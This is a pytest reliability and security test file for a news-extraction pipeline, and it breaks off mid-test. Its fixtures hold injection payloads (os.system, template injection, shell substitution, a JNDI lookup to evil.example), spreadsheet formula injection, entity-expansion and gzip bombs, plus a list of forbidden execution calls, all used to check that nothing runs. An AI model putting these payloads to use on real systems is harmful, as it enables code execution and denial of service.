"""Reliability: bad input, output integrity, faults and security (issue 9).

Every nasty file is generated here, run through the real pipeline, and checked for a
``documents`` row with the right status and reason while the good articles around it
come through intact. Faults (kill -9, a crash while writing, a full disk, a second run
on the same folder) must leave the previous complete output or a resumable state.

When ``ACTORGRAPH_RELIABILITY_JSON`` names a file, each case appends what happened to it
as a JSON line; ``scripts/reliability_report.py`` turns that into ``docs/reliability.md``.
"""

from __future__ import annotations

import ast
import codecs
import errno
import gzip
import hashlib
import json
import os
import signal
import socket
import subprocess
import sys
import textwrap
import time
import tracemalloc
from pathlib import Path

import pandas as pd
import pytest

import actorgraph
from actorgraph import store
from actorgraph.ingest import MAX_ARTICLE_BYTES, MAX_TEXT_CHARS, read_articles, read_file

ROOT = Path(__file__).resolve().parents[1]
REPORT_ENV = "ACTORGRAPH_RELIABILITY_JSON"
TABLES = ("documents", "mentions", "actors", "relations", "edges")
#: Characters a spreadsheet treats as the start of a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


# -- recording outcomes for the generated report ---------------------------------------------


@pytest.fixture
def record(request):
    """``record(area, case, happened, good_in=, good_out=)``: log one case for the report."""
    rows: list[dict] = []

    def add(area: str, case: str, happened: str, *, good_in: int | None = None,
            good_out: int | None = None) -> None:
        rows.append({"test": request.node.nodeid, "area": area, "case": case, "happened": happened,
                     "good_in": good_in, "good_out": good_out})

    yield add
    target = os.environ.get(REPORT_ENV)
    if target and rows:
        with open(target, "a", encoding="utf-8") as fh:
            for row in rows:
                fh.write(json.dumps(row, ensure_ascii=False) + "\n")


# -- helpers -------------------------------------------------------------------------------

GOOD_SENTENCES = [
    "Vladimir Putin met Xi Jinping in Moscow on Tuesday to discuss energy exports.",
    "Huawei signed a contract with MTS to build a 5G network in Russia.",
    "Angela Merkel visited Paris on 4 June 2019 and spoke with Emmanuel Macron.",
    "The United Nations called on Ethiopia and Eritrea to respect the ceasefire.",
    "Samsung announced a partnership with Nokia at a conference in Seoul.",
    "Narendra Modi hosted Joe Biden in New Delhi for talks on trade.",
    "The World Bank lent Kenya 750 million dollars for roads in March 2021.",
    "Jacinda Ardern criticised Facebook after the attack in Christchurch.",
    "Gazprom cut gas supplies to Ukraine, the company said on Monday.",
    "Recep Tayyip Erdogan telephoned Vladimir Zelensky about grain shipments.",
]


def good_text(i: int) -> str:
    """A short news text, different for each ``i``."""
    first = GOOD_SENTENCES[i % len(GOOD_SENTENCES)]
    second = GOOD_SENTENCES[(i * 3 + 1) % len(GOOD_SENTENCES)]
    return f"Report number {i}\n\n{first} {second}\n"


def table_bytes(out: Path) -> dict[str, str]:
    """SHA-256 of every file directly in ``out`` (the tables and run.json)."""
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(out.iterdir()) if p.is_file()}


def read_tables(out: Path) -> dict[str, pd.DataFrame]:
    return {name: store.read_table(out, name) for name in TABLES}


def canonical(df: pd.DataFrame, name: str) -> pd.DataFrame:
    """A table in a fixed row order, for comparing runs."""
    key = {"documents": ["doc_id"], "mentions": ["mention_id"], "actors": ["actor_id"],
           "relations": ["relation_id"], "edges": list(df.columns)}[name]
    return df.sort_values(key, kind="stable").reset_index(drop=True).astype(object).where(df.notna(), None)


def assert_same_tables(a: dict[str, pd.DataFrame], b: dict[str, pd.DataFrame]) -> None:
    for name in TABLES:
        pd.testing.assert_frame_equal(canonical(a[name], name), canonical(b[name], name), check_dtype=False,
                                      obj=name)


def assert_no_duplicates(tables: dict[str, pd.DataFrame]) -> None:
    assert not tables["documents"]["doc_id"].duplicated().any()
    assert not tables["mentions"]["mention_id"].duplicated().any()
    assert not tables["relations"]["relation_id"].duplicated().any()
    assert not tables["actors"]["actor_id"].duplicated().any()


def cli(args: list[str]):
    """Run the CLI in-process (the model stays loaded); returns the click Result."""
    from typer.testing import CliRunner

    from actorgraph.cli import app

    return CliRunner().invoke(app, args, catch_exceptions=False)


def error_lines(output: str) -> list[str]:
    return [line for line in output.splitlines() if line.startswith("Error:")]


def write_corpus(folder: Path, n: int) -> list[str]:
    folder.mkdir(parents=True, exist_ok=True)
    names = []
    for i in range(n):
        name = f"article-{i:02d}.txt"
        (folder / name).write_text(good_text(i), encoding="utf-8")
        names.append(name)
    return names


# -- the nasty corpus ------------------------------------------------------------------------

BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n'
    + "".join(f'<!ENTITY lol{i} "' + ("&lol;" if i == 1 else f"&lol{i - 1};") * 10 + '">\n'
              for i in range(1, 10))
    + "]>\n<html><head><title>Laughs</title></head><body><article><p>&lol9;</p>"
    + "".join(f"<p>{s} This paragraph is long enough to count as article text.</p>" for s in GOOD_SENTENCES[:5])
    + "</article></body></html>"
)

CODE_TEXT = (
    "__import__('os').system('touch PWNED')\n"
    "{{ config.__class__.__init__.__globals__['os'].popen('touch PWNED').read() }}\n"
    "$(touch PWNED) `touch PWNED` ${jndi:ldap://evil.example/a}\n"
    "Vladimir Putin met Xi Jinping in Moscow on Tuesday.\n"
)

FORMULA_CELLS = {
    "title": '=HYPERLINK("http://evil.example/","click")',
    "source": "@SUM(1+1)*cmd|' /C calc'!A0",
    "text": "+cmd|' /C calc'!A0\n=1+2\n-2+3\nVladimir Putin met Xi Jinping in Moscow on Tuesday.",
}

#: doc_id -> (area, what the input is, expected status, words expected in the reason).
NASTY: dict[str, tuple[str, str, str, str]] = {
    "empty.txt": ("bad input", "empty file", "error", "empty file"),
    "whitespace.txt": ("bad input", "whitespace-only file", "error", "only whitespace"),
    "nul-bytes.txt": ("bad input", "binary file with NUL bytes", "error", "NUL bytes"),
    "image.txt": ("bad input", "PNG image named .txt", "error", "PNG image"),
    "document.txt": ("bad input", "PDF named .txt", "error", "PDF"),
    "undecodable.txt": ("bad input", "bytes no encoding fits", "error", "undecodable"),
    "windows-1252.txt": ("encoding", "Windows-1252 text", "ok", ""),
    "latin-1.txt": ("encoding", "Latin-1 text", "ok", ""),
    "utf-16-le.txt": ("encoding", "UTF-16 LE with BOM", "ok", ""),
    "utf-16-be.txt": ("encoding", "UTF-16 BE with BOM", "ok", ""),
    "utf-8-bom.txt": ("encoding", "UTF-8 with BOM", "ok", ""),
    "mixed-encoding.txt": ("encoding", "UTF-8 and Windows-1252 mixed in one file", "ok", ""),
    "truncated.txt.gz": ("bad input", "truncated gzip", "error", "truncated gzip"),
    "gzip-bomb.txt.gz": ("bad input", "gzip bomb (20 MB of text in 20 kB)", "error", "limit for one article"),
    "good.txt.gz": ("bad input", "valid gzip (control)", "ok", ""),
    "broken.json": ("bad input", "malformed JSON file", "error", "malformed JSON"),
    "deep.json": ("bad input", "JSON nested 100,000 deep", "error", "nested too deeply"),
    "lines.jsonl:2": ("bad input", "malformed JSON line (other lines kept)", "error", "malformed JSON on line 2"),
    "lines.jsonl:3": ("bad input", "JSON line that is not an object", "error", "not an article object"),
    "lines.jsonl:4": ("bad input", "JSON line nested 100,000 deep", "error", "nested too deeply"),
    "no-text-column.csv": ("bad input", "CSV with no text column", "error", "no text column"),
    "header-only.csv": ("bad input", "CSV with a header and no rows (found by hypothesis)", "error",
                        "header but no rows"),
    "ragged.csv:3": ("bad input", "CSV ragged row (other rows kept)", "error", "has 3 cells, the header has 2"),
    "scripts-only.html": ("bad input", "HTML with only scripts and styles", "error", "no article text"),
    "billion-laughs.html": ("security", "billion-laughs entity expansion in HTML", "ok", ""),
    "huge.txt": ("bad input", "50 MB text file", "error", "limit for one article"),
    "too-long.txt": ("bad input", "text over 1,000,000 characters", "error", "over the 1,000,000 limit"),
    "broken-link.txt": ("links", "broken symbolic link", "error", "broken symbolic link"),
    "loop-a.txt": ("links", "symbolic link loop (file)", "error", "symbolic link loop"),
    "loop-b.txt": ("links", "symbolic link loop (file, other end)", "error", "symbolic link loop"),
    "outside.txt": ("links", "link to a file outside the input folder", "skipped", "--follow-links"),
    "outside-dir": ("links", "link to a folder outside the input folder", "skipped", "--follow-links"),
    "fifo.txt": ("bad input", "named pipe (FIFO) named .txt", "skipped", "not a regular file"),
    "code.txt": ("security", "text that looks like code or templates", "ok", ""),
    "formulas.csv:2": ("security", "CSV cells starting with = + - @", "ok", ""),
}
GOOD_IDS = ["good-1.txt", "good-2.md", "lines.jsonl:1", "lines.jsonl:5", "ragged.csv:2", "ragged.csv:4",
            "good.txt.gz", "sub/good-3.txt"]


def make_nasty_corpus(root: Path, outside: Path) -> None:
    """Write every kind of bad input, with good articles between them, under ``root``."""
    root.mkdir(parents=True)
    outside.mkdir(parents=True)
    (root / "good-1.txt").write_text(good_text(1), encoding="utf-8")
    (root / "good-2.md").write_text(good_text(2), encoding="utf-8")
    (root / "sub").mkdir()
    (root / "sub" / "good-3.txt").write_text(good_text(3), encoding="utf-8")
    os.symlink(root / "sub", root / "sub" / "loop")  # a folder loop inside the root

    (root / "empty.txt").write_bytes(b"")
    (root / "whitespace.txt").write_bytes(b" \n\t\r\n   \n")
    (root / "nul-bytes.txt").write_bytes(b"Putin\x00met\x00Xi" * 50)
    (root / "image.txt").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4)
    (root / "document.txt").write_bytes(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\n")
    (root / "photo.jpg").write_bytes(b"\xff\xd8\xff\xe0" + bytes(range(256)))  # not an article suffix
    (root / "undecodable.txt").write_bytes(bytes(range(128, 256)) * 10)

    accented = "Café owners in Zürich protested — the “new” rules were déjà vu for Müller and Ålesund."
    (root / "windows-1252.txt").write_bytes(accented.encode("cp1252"))
    latin = "Señor Muñoz visited Besançon and Zürich; the façade was déjà vu for Ångström."
    (root / "latin-1.txt").write_bytes(latin.encode("latin-1"))
    (root / "utf-16-le.txt").write_bytes(codecs.BOM_UTF16_LE + good_text(4).encode("utf-16-le"))
    (root / "utf-16-be.txt").write_bytes(codecs.BOM_UTF16_BE + good_text(5).encode("utf-16-be"))
    (root / "utf-8-bom.txt").write_bytes(codecs.BOM_UTF8 + good_text(6).encode("utf-8"))
    (root / "mixed-encoding.txt").write_bytes(
        "Café talks in Zürich — “first part” in UTF-8.\n".encode()
        + "Müller’s déjà vu — second part in Windows-1252.\n".encode("cp1252"))

    whole = gzip.compress(good_text(7).encode("utf-8") * 50)
    (root / "truncated.txt.gz").write_bytes(whole[: len(whole) // 2])
    (root / "good.txt.gz").write_bytes(gzip.compress(good_text(8).encode("utf-8")))
    (root / "gzip-bomb.txt.gz").write_bytes(gzip.compress(b"lol " * 5_000_000))

    (root / "broken.json").write_text('{"title": "Broken", "text": "unterminated', encoding="utf-8")
    (root / "deep.json").write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    (root / "lines.jsonl").write_text("\n".join([
        json.dumps({"text": good_text(9)}),
        '{"text": "broken line',
        "[1, 2, 3]",
        "[" * 100_000 + "]" * 100_000,
        json.dumps({"text": good_text(10)}),
    ]) + "\n", encoding="utf-8")
    (root / "header-only.csv").write_text("title,text\n", encoding="utf-8")
    (root / "no-text-column.csv").write_text("name,value\nalpha,1\nbeta,2\n", encoding="utf-8")
    (root / "ragged.csv").write_text(
        f'title,text\nOne,"{good_text(11)}"\nTwo,Too many,cells\nThree,"{good_text(12)}"\n', encoding="utf-8")
    (root / "formulas.csv").write_text(pd.DataFrame([FORMULA_CELLS]).to_csv(index=False), encoding="utf-8")

    (root / "scripts-only.html").write_text(
        "<html><head><script>alert('x'); var s = 'Vladimir Putin met Xi Jinping';</script>"
        "<style>body { color: red; }</style></head><body><script>document.write('hi')</script></body></html>",
        encoding="utf-8")
    (root / "billion-laughs.html").write_text(BILLION_LAUGHS, encoding="utf-8")

    # 50 MB of real text: refused before it is read (see test_huge_file_refused_without_reading).
    with open(root / "huge.txt", "wb") as fh:
        line = (GOOD_SENTENCES[0] + "\n").encode("utf-8")
        fh.write(line * (50_000_000 // len(line) + 1))
    # Small on disk, but longer than one article may be once decoded.
    (root / "too-long.txt").write_bytes(b"word " * (MAX_TEXT_CHARS // 5 + 10))

    os.symlink(root / "missing-target.txt", root / "broken-link.txt")
    os.symlink(root / "loop-b.txt", root / "loop-a.txt")
    os.symlink(root / "loop-a.txt", root / "loop-b.txt")
    (outside / "secret.txt").write_text(good_text(13), encoding="utf-8")
    (outside / "folder").mkdir()
    (outside / "folder" / "inner.txt").write_text(good_text(14), encoding="utf-8")
    os.symlink(outside / "secret.txt", root / "outside.txt")
    os.symlink(outside / "folder", root / "outside-dir")
    os.mkfifo(root / "fifo.txt")
    (root / "code.txt").write_text(CODE_TEXT, encoding="utf-8")


@pytest.fixture(scope="session")
def nasty(tmp_path_factory):
    """The nasty corpus run once through the pipeline (in-process, one job)."""
    base = tmp_path_factory.mktemp("nasty")
    corpus, outside, out = base / "corpus", base / "outside", base / "out"
    make_nasty_corpus(corpus, outside)
    cwd = os.getcwd()
    os.chdir(base)  # anything an input managed to run would drop PWNED here
    try:
        result = actorgraph.extract([corpus], out=out, jobs=1)
    finally:
        os.chdir(cwd)
    docs = result.documents.set_index("doc_id")
    return {"base": base, "corpus": corpus, "out": out, "result": result, "docs": docs}


# -- 1. bad input --------------------------------------------------------------------------


@pytest.mark.parametrize("doc_id", list(NASTY))
def test_bad_input_becomes_a_row_with_a_reason(nasty, record, doc_id):
    area, what, status, reason = NASTY[doc_id]
    docs = nasty["docs"]
    assert doc_id in docs.index, f"no documents row for {doc_id}"
    row = docs.loc[doc_id]
    assert row["status"] == status, row["error"]
    if status == "ok":
        assert pd.isna(row["error"])
        assert row["n_chars"] > 0
    else:
        assert reason in row["error"]
    good_ok = int((nasty["docs"].loc[GOOD_IDS, "status"] == "ok").sum())
    record(area, what, f"{status}: {row['error']}" if status != "ok" else
           f"ok, {row['n_chars']} characters, {row['n_mentions']} mentions",
           good_in=len(GOOD_IDS), good_out=good_ok)


def test_good_articles_survive_among_bad_ones(nasty, record):
    docs = nasty["docs"]
    assert all(docs.loc[GOOD_IDS, "status"] == "ok")
    assert all(docs.loc[GOOD_IDS, "n_mentions"] > 0)
    # Every input gave exactly one row: nothing lost, nothing doubled.
    assert sorted(docs.index) == sorted(set(NASTY) | set(GOOD_IDS) | {"lines.jsonl:1", "lines.jsonl:5", "photo.jpg"})
    assert not docs.index.duplicated().any()
    record("bad input", f"{len(GOOD_IDS)} good articles among {len(NASTY)} bad inputs",
           f"all {len(GOOD_IDS)} ok with mentions; one row per input, no duplicates",
           good_in=len(GOOD_IDS), good_out=int((docs.loc[GOOD_IDS, "status"] == "ok").sum()))


def test_encodings_decoded_to_the_right_characters(nasty, record):
    texts = nasty["result"].texts.set_index("doc_id")["text"]
    assert "déjà vu for Müller and Ålesund" in texts["windows-1252.txt"]
    assert "“new”" in texts["windows-1252.txt"]
    assert "Besançon" in texts["latin-1.txt"] and "Ångström" in texts["latin-1.txt"]
    assert texts["utf-16-le.txt"] == good_text(4)
    assert texts["utf-16-be.txt"] == good_text(5)
    assert texts["utf-8-bom.txt"] == good_text(6)
    assert "“first part”" in texts["mixed-encoding.txt"] and "Müller’s déjà vu" in texts["mixed-encoding.txt"]
    record("encoding", "Windows-1252, Latin-1, UTF-16 LE/BE, UTF-8 BOM, mixed UTF-8 + Windows-1252",
           "every accented letter and curly quote decoded exactly")


def test_unknown_suffix_skipped_in_folders_but_read_when_named(nasty, record):
    row = nasty["docs"].loc["photo.jpg"]  # a folder's other files are accounted for, not read
    assert row["status"] == "skipped" and "unsupported file type '.jpg'" in row["error"]
    [named] = list(read_articles([nasty["corpus"] / "photo.jpg"]))
    assert named.status == "error" and "JPEG image" in named.error
    record("bad input", "JPEG in a folder / named on the command line",
           f"in a folder: skipped: {row['error']}; named explicitly: error: {named.error}")


def test_symlink_loops_terminate_without_duplicates(nasty, record):
    ids = list(nasty["docs"].index)
    assert ids.count("sub/good-3.txt") == 1
    assert not any("loop/" in i for i in ids)
    record("links", "folder symlink loop inside the input", "walked once; no duplicate rows")


def test_links_out_of_root_followed_only_when_asked(nasty, record):
    docs = {a.doc_id: a for a in read_articles([nasty["corpus"]], follow_links=True)}
    assert docs["outside.txt"].status == "ok" and docs["outside.txt"].text == good_text(13)
    assert docs["outside-dir/inner.txt"].status == "ok"
    record("links", "--follow-links on links leaving the input", "read as ordinary articles")


def test_huge_file_refused_without_reading(nasty, record):
    huge = nasty["corpus"] / "huge.txt"
    assert huge.stat().st_size >= 50_000_000
    tracemalloc.start()
    try:
        [article] = list(read_file(huge, root=nasty["corpus"]))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert article.status == "error" and "limit for one article" in article.error
    assert peak < 1_000_000  # refused from its size: the 50 MB were never loaded
    record("bad input", "50 MB text file: memory while refusing it",
           f"refused from its size before reading; peak Python memory {peak / 1e3:.0f} kB "
           f"(limits: {MAX_ARTICLE_BYTES / 1e6:.1f} MB a file, {MAX_TEXT_CHARS:,} characters an article)")


def test_unreadable_file_real_permissions(tmp_path, record):
    if os.geteuid() == 0:
        pytest.skip("running as root: chmod 000 does not stop root from reading "
                    "(test_unreadable_file_simulated covers the code path)")
    (tmp_path / "locked.txt").write_text("Secret.", encoding="utf-8")
    (tmp_path / "locked.txt").chmod(0)
    try:
        [article] = list(read_articles([tmp_path]))
    finally:
        (tmp_path / "locked.txt").chmod(0o644)
    assert article.status == "error" and "cannot read file" in article.error
    record("bad input", "file without read permission", f"error: {article.error}")


def test_unreadable_file_simulated(tmp_path, monkeypatch, record):
    (tmp_path / "a.txt").write_text(good_text(1), encoding="utf-8")
    (tmp_path / "locked.txt").write_text(good_text(2), encoding="utf-8")
    (tmp_path / "z.txt").write_text(good_text(3), encoding="utf-8")
    real = Path.read_bytes

    def read_bytes(self: Path) -> bytes:
        if self.name == "locked.txt":
            raise PermissionError(errno.EACCES, "Permission denied", str(self))
        return real(self)

    monkeypatch.setattr(Path, "read_bytes", read_bytes)
    articles = {a.doc_id: a for a in read_articles([tmp_path])}
    assert articles["locked.txt"].status == "error"
    assert articles["locked.txt"].error == "cannot read file: Permission denied"
    assert articles["a.txt"].status == articles["z.txt"].status == "ok"
    record("bad input", "unreadable file (EACCES simulated; tests run as root)",
           f"error: {articles['locked.txt'].error}; neighbours read", good_in=2,
           good_out=sum(articles[k].status == "ok" for k in ("a.txt", "z.txt")))


def test_cli_exit_codes_and_strict(nasty, record):
    out = nasty["out"]
    lenient = cli(["run", str(nasty["corpus"]), "--out", str(out), "--jobs", "1"])
    assert lenient.exit_code == 3, lenient.output  # finished, some articles failed
    n_failed = int((nasty["docs"]["status"] == "error").sum())
    assert f"{n_failed} failed" in lenient.output
    strict = cli(["run", str(nasty["corpus"]), "--out", str(out), "--jobs", "1", "-q", "--strict"])
    assert strict.exit_code == 1
    [line] = error_lines(strict.output)
    assert f"{n_failed} article(s) failed (--strict)" in line
    # The lenient run still wrote every row.
    assert len(store.read_table(out, "documents")) == len(nasty["docs"])
    record("exit code", "a run with failed articles",
           f"exit 3 (finished with failures), summary says '{n_failed} failed'; with --strict exit 1: {line.strip()}")


# -- 2. output integrity -------------------------------------------------------------------


@pytest.fixture(scope="session")
def small(tmp_path_factory):
    """A 30-article corpus and its clean output (batch size 1: one part per article)."""
    base = tmp_path_factory.mktemp("small")
    names = write_corpus(base / "corpus", 30)
    clean = base / "clean"
    actorgraph.extract([base / "corpus"], out=clean, jobs=1, batch_size=1)
    return {"base": base, "corpus": base / "corpus", "names": names, "clean": read_tables(clean),
            "clean_dir": clean}


RUN_SCRIPT = textwrap.dedent("""
    import sys
    import actorgraph
    actorgraph.extract([sys.argv[1]], out=sys.argv[2], jobs=1, batch_size=1)
""")


def _kill_after(proc: subprocess.Popen, out: Path, n_parts: int, timeout: float = 120.0) -> int:
    """SIGKILL ``proc`` once ``out`` holds ``n_parts`` parts; returns the parts seen then."""
    parts = store.parts_dir(out)
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            return -1
        seen = len([p for p in parts.iterdir() if not p.name.startswith(".")]) if parts.is_dir() else 0
        if seen >= n_parts:
            os.kill(proc.pid, signal.SIGKILL)
            proc.wait()
            return seen
        time.sleep(0.002)
    proc.kill()
    raise AssertionError(f"no {n_parts} parts within {timeout}s")


@pytest.mark.parametrize("kill_points", [(1, 2, 5, 30)])
def test_kill_minus_9_then_resume_equals_clean_run(small, record, kill_points):
    """Kill -9 runs after 1, 2, 5 and all 30 parts (assembly); a re-run completes them."""
    procs = {}
    for k in kill_points:
        out = small["base"] / f"killed-{k}"
        procs[k] = (out, subprocess.Popen([sys.executable, "-c", RUN_SCRIPT, str(small["corpus"]), str(out)],
                                          stdout=subprocess.DEVNULL, stderr=subprocess.PIPE))
    seen = {k: _kill_after(proc, out, k) for k, (out, proc) in procs.items()}
    for k, (out, _proc) in procs.items():
        assert seen[k] >= k, f"run finished before it could be killed at {k} parts"
        before = len(store.list_parts(out))
        if k < 30:
            assert not (out / "documents.parquet").exists()  # killed mid-run: no tables yet
        # Whatever exists is whole: every table file present reads.
        for path in out.glob("*.parquet"):
            pd.read_parquet(path)
        result = actorgraph.extract([small["corpus"]], out=out, jobs=1, batch_size=1)
        tables = read_tables(out)
        assert result.run["counts"]["reused"] == before  # resumed, not redone
        assert_same_tables(tables, small["clean"])
        assert_no_duplicates(tables)
        assert sorted(tables["documents"]["doc_id"]) == sorted(small["names"])
        assert not list(out.glob(".*.tmp"))
        record("fault", f"kill -9 after {k} of 30 parts were written",
               f"killed with {seen[k]} parts on disk; re-run reused {before}, processed "
               f"{result.run['counts']['processed']}; tables equal a clean run's, no duplicate ids",
               good_in=30, good_out=int((tables["documents"]["status"] == "ok").sum()))


class SimulatedCrash(BaseException):
    """Stands for the process dying at this instant (not caught by any except Exception)."""


@pytest.mark.parametrize("crash_at", [1, 2, 6, 11])
def test_crash_while_replacing_tables_leaves_whole_tables(tmp_path, monkeypatch, record, crash_at):
    corpus = tmp_path / "corpus"
    write_corpus(corpus, 3)
    out = tmp_path / "out"
    actorgraph.extract([corpus], out=out, jobs=1)
    old = read_tables(out)
    (corpus / "article-99.txt").write_text(good_text(7), encoding="utf-8")
    real_replace = os.replace
    calls = []

    def crashing_replace(src, dst, *a, **k):
        if Path(dst).parent == out and Path(dst).suffix in (".parquet", ".csv"):
            calls.append(dst)
            if len(calls) == crash_at:
                raise SimulatedCrash
        return real_replace(src, dst, *a, **k)

    monkeypatch.setattr(os, "replace", crashing_replace)
    with pytest.raises(SimulatedCrash):
        actorgraph.extract([corpus], out=out, jobs=1)
    monkeypatch.setattr(os, "replace", real_replace)
    mixed = read_tables(out)  # every table reads whole
    result = actorgraph.extract([corpus], out=out, jobs=1)
    assert result.run["counts"]["processed"] == 0  # the parts survived the crash
    new = read_tables(out)
    assert sorted(new["documents"]["doc_id"]) == sorted(os.listdir(corpus))
    for name in TABLES:  # each table the crash left was the previous one or the next one, never a mix
        same = [canonical(mixed[name], name).equals(canonical(t[name], name)) for t in (old, new)]
        assert any(same), name
    record("fault", f"crash at table rename {crash_at} of 11",
           f"every table whole and readable; re-run finished from the parts ({len(result.documents)} articles)",
           good_in=4, good_out=len(result.documents))


def test_crash_while_writing_a_part_resumes(tmp_path, monkeypatch, record):
    import pyarrow.parquet as pq

    corpus = tmp_path / "corpus"
    write_corpus(corpus, 4)
    clean = actorgraph.extract([corpus], out=tmp_path / "clean", jobs=1, batch_size=2)
    out = tmp_path / "out"
    real_write = pq.write_table
    calls = []

    def crashing_write(table, where, *a, **k):
        calls.append(where)
        if len(calls) == 8:  # the third table of the second part
            raise SimulatedCrash
        return real_write(table, where, *a, **k)

    monkeypatch.setattr(pq, "write_table", crashing_write)
    with pytest.raises(SimulatedCrash):
        actorgraph.extract([corpus], out=out, jobs=1, batch_size=2)
    monkeypatch.setattr(pq, "write_table", real_write)
    assert len(store.list_parts(out)) == 1  # the half-written part is not taken for a part
    assert not list(store.parts_dir(out).glob(".tmp-*"))  # and its leftovers are gone
    result = actorgraph.extract([corpus], out=out, jobs=1, batch_size=2)
    assert result.run["counts"]["reused"] == 2 and result.run["counts"]["processed"] == 2
    assert_same_tables(read_tables(out), read_tables(clean.out))
    record("fault", "crash half-way through writing a part",
           "half-written part ignored and removed; re-run redid only that batch; tables equal a clean run's",
           good_in=4, good_out=len(result.documents))


ENOSPC = OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))


def _fail_parquet_everywhere(monkeypatch, out):
    import pyarrow.parquet as pq

    def full(*a, **k):
        raise ENOSPC

    monkeypatch.setattr(pq, "write_table", full)


def _fail_final_parquet(monkeypatch, out):
    import pyarrow.parquet as pq

    real = pq.write_table

    def full(table, where, *a, **k):
        if Path(where).parent == out:
            raise ENOSPC
        return real(table, where, *a, **k)

    monkeypatch.setattr(pq, "write_table", full)


def _fail_third_csv(monkeypatch, out):
    real = pd.DataFrame.to_csv
    calls = []

    def full(self, path=None, *a, **k):
        calls.append(path)
        if len(calls) == 3:
            Path(path).write_text("half a tab")  # a partial file, as a full disk leaves
            raise ENOSPC
        return real(self, path, *a, **k)

    monkeypatch.setattr(pd.DataFrame, "to_csv", full)


def _fail_rename(monkeypatch, out):
    real = os.replace

    def full(src, dst, *a, **k):
        if Path(dst).name == "mentions.csv":
            raise ENOSPC
        return real(src, dst, *a, **k)

    monkeypatch.setattr(os, "replace", full)


@pytest.mark.parametrize("fault", [_fail_parquet_everywhere, _fail_final_parquet, _fail_third_csv, _fail_rename],
                         ids=["part", "final-parquet", "third-csv", "rename"])
def test_disk_full_keeps_previous_output(tmp_path, monkeypatch, record, fault):
    corpus = tmp_path / "corpus"
    write_corpus(corpus, 3)
    out = tmp_path / "out"
    first = cli(["run", str(corpus), "--out", str(out), "--jobs", "1", "-q"])
    assert first.exit_code == 0, first.output
    before = table_bytes(out)
    (corpus / "article-99.txt").write_text(good_text(9), encoding="utf-8")
    with monkeypatch.context() as m:
        fault(m, out)
        second = cli(["run", str(corpus), "--out", str(out), "--jobs", "1", "-q"])
    assert second.exit_code == 1
    [line] = error_lines(second.output)
    assert "No space left on device" in " ".join(second.output.split())
    assert "Traceback" not in second.output
    if fault is not _fail_rename:
        assert table_bytes(out) == before  # not one byte of the previous output changed
    tables = read_tables(out)  # and every table still reads whole
    assert len(tables["documents"]) in (3, 4)
    assert not list(out.glob(".*.tmp"))
    third = cli(["run", str(corpus), "--out", str(out), "--jobs", "1", "-q"])
    assert third.exit_code == 0
    assert len(store.read_table(out, "documents")) == 4
    message = " ".join(second.output.split())
    record("fault", f"disk full while writing ({fault.__name__.strip('_').replace('_', ' ')})",
           f"exit 1, one line: {message}; previous tables "
           + ("byte-identical" if fault is not _fail_rename else "each whole (old or new)")
           + "; next run completes", good_in=4, good_out=4)


def test_second_run_on_a_locked_folder_is_refused(tmp_path, record):
    corpus = tmp_path / "corpus"
    write_corpus(corpus, 1)
    out = tmp_path / "out"
    with store.locked(out):
        with pytest.raises(store.OutputLocked):
            actorgraph.extract([corpus], out=out, jobs=1)
        refused = cli(["run", str(corpus), "--out", str(out), "--jobs", "1", "-q"])
    assert refused.exit_code == 1
    [line] = error_lines(refused.output)
    message = " ".join(refused.output.split())
    assert "Another actorgraph run is writing" in message and f"pid {os.getpid()}" in message
    assert not (out / "documents.parquet").exists()
    after = cli(["run", str(corpus), "--out", str(out), "--jobs", "1", "-q"])  # lock released
    assert after.exit_code == 0
    record("fault", "a second run on an output folder in use", f"exit 1: {message}")


# -- 3. security ---------------------------------------------------------------------------


def test_input_text_is_never_executed(nasty, record):
    base = nasty["base"]
    assert not list(base.rglob("PWNED")) and not (ROOT / "PWNED").exists()
    texts = nasty["result"].texts.set_index("doc_id")["text"]
    assert texts["code.txt"] == CODE_TEXT  # kept literally, not evaluated or expanded
    record("security", "inputs holding Python, template and shell code", "kept as literal text; nothing ran")


FORBIDDEN_CALLS = {"eval", "exec", "compile", "__import__", "breakpoint"}
FORBIDDEN_ATTRS = {("pickle", "load"), ("pickle", "loads"), ("marshal", "load"), ("marshal", "loads"),
                   ("yaml", "load"), ("yaml", "unsafe_load"), ("yaml", "full_load"), ("os", "system"),
                   ("os", "popen"), ("subprocess", "run"), ("subprocess", "Popen"), ("subprocess", "call"),
                   ("subprocess", "check_output"), ("shelve", "open")}


def test_no_code_execution_primitives_in_the_package(record):
    found = []
    for path in sorted((ROOT / "src" / "actorgraph").rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call):
                continue
            func = node.func
            if isinstance(func, ast.Name) and func.id in FORBIDDEN_CALLS:
                found.append(f"{path.name}:{node.lineno} {func.id}()")
            elif isinstance(func, ast.Attribute):
                if isinstance(func.value, ast.Name) and (func.value.id, func.attr) in FORBIDDEN_ATTRS:
                    found.append(f"{path.name}:{node.lineno} {func.value.id}.{func.attr}()")
                elif func.attr == "eval":  # pandas DataFrame.eval evaluates strings
                    found.append(f"{path.name}:{node.lineno} .eval()")
    assert found == []
    record("security", "eval/exec/pickle/yaml.load/os.system/subprocess in the package source",
           "none found (static check of every module)")


def test_no_network_at_run_time(tmp_path, monkeypatch, record):
    from actorgraph import nlp as nlp_mod

    attempts: list[str] = []

    class BlockedSocket(socket.socket):
        def __init__(self, *a, **k):
            attempts.append(f"socket{a}")
            raise OSError("network access blocked by the test")

    def blocked(name):
        def fail(*a, **k):
            attempts.append(f"{name}{a}")
            raise OSError("network access blocked by the test")
        return fail

    monkeypatch.setattr(socket, "socket", BlockedSocket)
    for name in ("create_connection", "getaddrinfo", "gethostbyname", "socketpair"):
        monkeypatch.setattr(socket, name, blocked(name))
    corpus = tmp_path / "corpus"
    write_corpus(corpus, 2)
    (corpus / "page.html").write_text(
        "<html><head><title>T</title><link rel='canonical' href='https://news.example/a'></head><body><article>"
